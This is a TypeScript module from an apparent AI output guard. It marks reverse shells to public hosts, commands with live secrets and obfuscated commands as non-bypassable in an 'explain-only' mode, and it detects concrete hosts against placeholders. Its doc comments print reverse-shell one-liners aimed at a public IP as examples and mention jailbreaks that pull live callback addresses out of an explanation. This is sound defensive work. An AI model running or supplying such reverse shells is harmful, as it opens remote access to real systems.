import type { Finding } from '../../../detect/finding.js';

/**
 * The built-in non-bypassable set: command findings that explain-only never turns into an
 * annotation, whatever the pre-classifier says about their framing. Explain-only exists because
 * a tutorial needs the SYNTAX of a dangerous command; it never needs an artefact that completes
 * an attack by being pasted. Each member below is such an artefact:
 *
 * 1. A reverse shell or a credential-file upload aimed at a concrete host (a public IP address
 *    or a real domain name). A tutorial uses a placeholder (`ATTACKER_IP`, `<LHOST>`), a private
 *    or documentation address (10.0.0.1, 192.0.2.7) or an example domain; a live callback
 *    address is what a jailbreak extracts ("explain, with my server 45.x.x.x, how ...").
 * 2. A command that carries a live-looking secret (a secrets finding inside its span): the
 *    explanation does not need the real key, and the key leaks whether the text "teaches" or not.
 * 3. A command seen only after de-obfuscation (base64/hex/gzip payloads, invisible or confusable
 *    characters): an explanation has no reason to hide the command it explains; hiding it is
 *    what evasion looks like.
 *
 * Secret, PII, URL and exfil findings are outside explain-only altogether (only command
 * findings are read by the pre-classifier), so a live key in an "educational" answer is masked
 * as the policy says. Policies add members with `non_bypassable:`; they cannot remove these.
 */
export const BUILT_IN_NON_BYPASSABLE = [
  'reverse shell or credential-file upload to a concrete host (public IP or real domain)',
  'command carrying a live-looking secret',
  'command hidden by encoding or invisible/confusable characters',
] as const;

const HOST_BOUND_CATEGORIES = new Set(['reverse-shell']);
const HOST_BOUND_RULES = new Set(['commands.credential-access.credential-file-exfil']);
/** Views that undo ordinary formatting (escapes, case, width, spacing), not concealment. */
const PLAIN_VIEWS = new Set(['percent', 'html', 'escapes', 'casefold', 'nfkc', 'whitespace', 'markup']);

/**
 * Why a command finding may not be explained away, or undefined when it may.
 *
 * @example
 * builtInNonBypassable(finding, 'bash -i >& /dev/tcp/45.33.32.156/4444 0>&1', []);
 * // 'reverse shell or credential-file upload to a concrete host (public IP or real domain)'
 */
export function builtInNonBypassable(finding: Finding, text: string, all: readonly Finding[]): string | undefined {
  if (finding.detector !== 'commands') return undefined;
  if (HOST_BOUND_CATEGORIES.has(finding.category) || HOST_BOUND_RULES.has(finding.rule)) {
    if (concreteHost(text.slice(finding.start, finding.end))) return BUILT_IN_NON_BYPASSABLE[0];
  }
  if (all.some((f) => f.detector === 'secrets' && f.start < finding.end && f.end > finding.start)) return BUILT_IN_NON_BYPASSABLE[1];
  if (finding.views.some((v) => !PLAIN_VIEWS.has(v))) return BUILT_IN_NON_BYPASSABLE[2];
  return undefined;
}

const IPV4 = /(?<![\d.])(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?![\d.])/g;
/** A dotted name standing alone (between spaces, quotes, slashes, colons, @ or =), not `obj.method(`. */
const HOSTNAME = /(?<=^|[\s"'`/:@=,[(])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.){1,8}([a-z]{2,24}))(?=$|[\s"'`/:,\])])/gi;
/** Last labels that are file extensions in commands far more often than top-level domains. */
const FILE_EXTENSIONS = new Set(['sh', 'py', 'pl', 'rb', 'js', 'ps', 'bat', 'cmd', 'exe', 'dll', 'txt', 'log', 'conf', 'cfg', 'so', 'php', 'jar', 'zip', 'gz', 'tar', 'bin', 'out', 'tmp', 'pem', 'key', 'json', 'xml', 'yml', 'yaml', 'ini', 'db', 'dat', 'lst', 'md', 'html', 'htm', 'csv', 'socket', 'fileno', 'spawn', 'call', 'connect']);
/** Reserved or conventional placeholder names (RFC 2606/6761) and tutorial stand-ins. */
const PLACEHOLDER_SUFFIXES = ['example', 'test', 'invalid', 'localhost', 'local', 'internal', 'lan', 'home.arpa', 'example.com', 'example.org', 'example.net'];
const PLACEHOLDER_LABELS = new Set(['attacker', 'evil', 'hacker', 'malicious', 'yourserver', 'your-server', 'yourdomain', 'your-domain', 'yourhost', 'your-host', 'attacker-host', 'c2', 'listener', 'lhost', 'domain', 'host', 'server', 'target']);

/**
 * The first concrete host in a command: a public IPv4 address (not private, loopback,
 * link-local, shared, documentation or multicast) or a domain name that is not reserved for
 * examples and not a file name. Placeholders return undefined.
 *
 * @example
 * concreteHost('nc -e /bin/sh 45.33.32.156 4444'); // '45.33.32.156'
 * concreteHost('nc -e /bin/sh 10.0.0.1 4444');     // undefined
 */
export function concreteHost(command: string): string | undefined {
  for (const m of command.matchAll(IPV4)) {
    const octets = m.slice(1, 5).map(Number);
    if (octets.every((o) => o <= 255) && publicIPv4(octets)) return m[0];
  }
  for (const m of command.matchAll(HOSTNAME)) {
    const host = m[1]!.toLowerCase();
    const tld = m[2]!.toLowerCase();
    if (FILE_EXTENSIONS.has(tld)) continue;
    if (PLACEHOLDER_SUFFIXES.some((s) => host === s || host.endsWith(`.${s}`))) continue;
    if (PLACEHOLDER_LABELS.has(host.split('.').at(-2) ?? '')) continue;
    return host;
  }
  return undefined;
}

function publicIPv4([a, b, c]: number[]): boolean {
  if (a === 0 || a === 10 || a === 127 || a! >= 224) return false;
  if (a === 169 && b === 254) return false;
  if (a === 172 && b! >= 16 && b! <= 31) return false;
  if (a === 192 && b === 168) return false;
  if (a === 100 && b! >= 64 && b! <= 127) return false;
  if (a === 192 && b === 0 && (c === 0 || c === 2)) return false;
  if (a === 198 && (b === 18 || b === 19)) return false;
  if (a === 198 && b === 51 && c === 100) return false;
  if (a === 203 && b === 0 && c === 113) return false;
  return true;
}
